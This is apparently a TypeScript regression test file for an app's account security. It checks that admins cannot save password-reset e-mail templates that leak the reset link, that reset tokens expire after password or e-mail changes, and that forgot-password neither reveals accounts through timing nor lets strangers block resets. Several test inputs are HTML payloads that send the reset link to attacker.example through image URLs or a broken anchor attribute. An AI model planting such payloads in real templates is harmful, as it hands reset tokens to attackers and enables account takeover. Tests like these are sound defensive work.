/**
 * Regression tests for the second security review (issue 23), accounts: e-mail templates that
 * could carry a reset link away, reset links outliving a credential change, and forgot-password
 * telling who has an account or letting anyone block a colleague's resets.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { setRateLimit } from '../../src/contract/rate-limit'
import { DEFAULT_EMAIL_TEMPLATES } from '../../src/lib/runtime/email/defaults'
import { startTestServer, type TestServer } from '../harness'

let t: TestServer
beforeAll(async () => {
  t = await startTestServer()
})
afterAll(() => t?.close())

const post = (path: string, body: unknown, ip = '192.0.2.10') =>
  fetch(`${t.baseUrl}${path}`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'X-Forwarded-For': ip },
    body: JSON.stringify(body),
  })

/** The outbox rows to `to`, waiting for the first one: the link is queued after the answer. */
async function mailsTo(to: string, atLeast = 1) {
  for (let i = 0; i < 100; i++) {
    const { docs } = await t.payload.find({ collection: 'outbox', where: { to: { equals: to } }, overrideAccess: true })
    if (docs.length >= atLeast) return docs
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  return []
}

async function makeUser(email: string) {
  return t.payload.create({
    collection: 'users',
    overrideAccess: true,
    data: { email, password: 'a-long-password-1', first_name: 'Colleague', last_name: 'Test', role: 'user' },
  })
}

describe('e-mail templates cannot carry a password link away', () => {
  let templateId: number | string
  beforeAll(async () => {
    const doc = await t.payload.create({
      collection: 'email-templates',
      overrideAccess: true,
      data: { key: 'password-reset', ...DEFAULT_EMAIL_TEMPLATES['password-reset'] } as never,
    })
    templateId = doc.id
  })

  for (const html of [
    '<p>Hi</p><img src="https://attacker.example/p.gif?t={{link}}">',
    '<p>Hi</p><img src="https://attacker.example/p.gif">{{link}}',
    `<p>Hi <a href='https://attacker.example/?t=>{{link}}'>here</a></p>`,
  ])
    it(`an admin cannot save ${html}`, async () => {
      const res = await t.request(`/api/email-templates/${templateId}`, {
        method: 'PATCH',
        as: 'admin',
        body: { html },
      })
      expect(res.status).toBe(400)
    })

  it('a template that got the link into an image anyway (written before the rules) sends the link only as the code writes it', async () => {
    await t.payload.db.updateOne({
      collection: 'email-templates',
      id: templateId,
      data: { html: '<p>Hi</p><img src="https://attacker.example/p.gif?t={{link}}">' },
    })
    await setRateLimit('forgot-password', undefined, t.payload)
    expect((await post('/api/auth/forgot-password', { email: t.accounts.super_admin.email })).status).toBe(200)
    const [mail] = await mailsTo(t.accounts.super_admin.email)
    expect(mail).toBeDefined()
    expect(mail.html).not.toContain('attacker.example')
    expect(mail.html).toMatch(/href="http[^"]*\/portal\/reset-password\/[0-9a-f]+"/)
  })
})

describe('reset links end when the password or e-mail changes', () => {
  const reset = (token: string) =>
    post('/api/auth/reset-password', {
      token,
      password: 'a-brand-new-password',
      passwordConfirm: 'a-brand-new-password',
    })

  it('a password change by an admin', async () => {
    const user = await makeUser('reset-pw@test.example')
    const token = await t.payload.forgotPassword({
      collection: 'users',
      data: { email: user.email },
      disableEmail: true,
    })
    const res = await t.request(`/api/users/${user.id}`, {
      method: 'PATCH',
      as: 'admin',
      body: { password: 'changed-by-admin-1' },
    })
    expect(res.status).toBe(200)
    expect((await reset(token!)).status).toBe(400)
  })

  it('an e-mail change', async () => {
    const user = await makeUser('reset-mail@test.example')
    const token = await t.payload.forgotPassword({
      collection: 'users',
      data: { email: user.email },
      disableEmail: true,
    })
    const res = await t.request(`/api/users/${user.id}`, {
      method: 'PATCH',
      as: 'admin',
      body: { email: 'reset-mail-new@test.example' },
    })
    expect(res.status).toBe(200)
    expect((await reset(token!)).status).toBe(400)
  })

  it('held up: a token works once, and not after it expired', async () => {
    const user = await makeUser('reset-once@test.example')
    const token = await t.payload.forgotPassword({
      collection: 'users',
      data: { email: user.email },
      disableEmail: true,
    })
    expect((await reset(token!)).status).toBe(200)
    expect((await reset(token!)).status).toBe(400)
    const late = await t.payload.forgotPassword({
      collection: 'users',
      data: { email: user.email },
      disableEmail: true,
    })
    await t.payload.db.updateOne({
      collection: 'users',
      id: user.id,
      data: { resetPasswordExpiration: new Date(Date.now() - 1000).toISOString() },
    })
    expect((await reset(late!)).status).toBe(400)
  })

  it('a token nothing changed still works (the check above is not a broken reset)', async () => {
    const user = await makeUser('reset-ok@test.example')
    const token = await t.payload.forgotPassword({
      collection: 'users',
      data: { email: user.email },
      disableEmail: true,
    })
    const res = await reset(token!)
    expect(res.status, await res.clone().text()).toBe(200)
  })
})

describe('forgot-password', () => {
  for (const path of ['/api/auth/forgot-password', '/api/users/forgot-password'])
    it(`${path} takes as long for an unknown address as for a real one`, async () => {
      await setRateLimit('forgot-password', { max: 1000, windowMs: 60_000 }, t.payload)
      await setRateLimit('forgot-password-account', { max: 1000, windowMs: 60_000 }, t.payload)
      try {
        const time = async (email: string) => {
          const started = performance.now()
          expect((await post(path, { email }, '192.0.2.20')).status).toBe(200)
          return performance.now() - started
        }
        for (let i = 0; i < 2; i++) await Promise.all([time(t.accounts.user.email), time(`warm-${i}@test.example`)])
        const known: number[] = []
        const unknown: number[] = []
        for (let i = 0; i < 9; i++) {
          known.push(await time(t.accounts.user.email))
          unknown.push(await time(`nobody-${i}@test.example`))
        }
        // Without the fix a real account costs a lookup, a token write and a queued e-mail before the
        // answer (70-170 ms against 18-29 ms). The fastest of each (load only ever adds) stays within
        // a few milliseconds of the other.
        const [fastKnown, fastUnknown] = [Math.min(...known), Math.min(...unknown)]
        expect(Math.abs(fastKnown - fastUnknown), `${fastKnown} ms against ${fastUnknown} ms`).toBeLessThan(20)
      } finally {
        await setRateLimit('forgot-password', undefined, t.payload)
        await setRateLimit('forgot-password-account', undefined, t.payload)
      }
    })

  it("a stranger using up an address's allowance does not block its owner's reset", async () => {
    const colleague = await makeUser('colleague@test.example')
    const statuses: number[] = []
    for (let i = 0; i < 4; i++)
      statuses.push((await post('/api/auth/forgot-password', { email: colleague.email }, '203.0.113.50')).status)
    expect(statuses).toEqual([200, 200, 200, 429])
    const before = (await mailsTo(colleague.email, 3)).length
    expect((await post('/api/users/forgot-password', { email: colleague.email }, '198.51.100.7')).status).toBe(200)
    expect((await mailsTo(colleague.email, before + 1)).length).toBe(before + 1)
  })
})
